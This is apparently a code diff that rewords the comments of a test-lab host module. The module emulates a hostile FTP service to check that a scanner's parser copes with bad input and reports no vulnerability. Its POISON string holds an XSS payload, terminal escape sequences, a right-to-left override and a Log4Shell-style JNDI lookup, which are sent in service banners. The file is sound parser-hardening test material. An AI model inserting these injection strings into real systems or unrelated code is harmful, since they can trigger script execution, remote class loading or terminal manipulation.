@@ -2,7 +2,7 @@ import type { Socket } from 'node:net';
 import { emulated } from '../../service/emulated.ts';
 import type { LabHost } from '../../service/service.ts';
 
-/** Ends elements, comments and quotes, clears the terminal, rings its bell, turns the writing round. */
+/** Closes elements, comments and quotes, clears the terminal, rings its bell, reverses the text direction. */
 const POISON =
   '"\'><script>alert(1)</script>]]>--><port/>&x;%n\u001b[2J\u001b]0;x\u0007\b\u202e\u0024{jndi:ldap://x/y}';
 
@@ -20,13 +20,13 @@ function poisonedFtp(socket: Socket): void {
   socket.end(`220 ftp ${POISON}\r\n`);
 }
 
-/** No line in it and no end of it before the megabyte is full. */
+/** One megabyte without a line break. */
 function longBanner(socket: Socket): void {
   socket.resume();
   socket.end(Buffer.alloc(MEGABYTE, `${POISON}\0`));
 }
 
-/** Everything a careless reader would choke on. None of it is a weakness, so nothing is to be found. */
+/** Input that breaks a careless parser. None of it is a vulnerability, so a scan must find nothing. */
 export const hostile: LabHost = {
   number: 18,
   name: 'hostile',
